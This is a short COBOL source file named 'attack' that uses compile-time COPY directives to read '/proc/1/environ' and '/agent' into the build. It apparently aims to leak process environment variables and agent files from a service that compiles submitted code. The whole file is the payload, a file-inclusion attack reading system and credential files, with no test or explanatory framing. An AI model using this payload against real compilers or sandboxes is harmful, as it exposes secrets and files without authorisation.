identification division.
program-id. attack.
procedure division.
copy "/proc/1/environ".
copy "/agent".
    stop run.
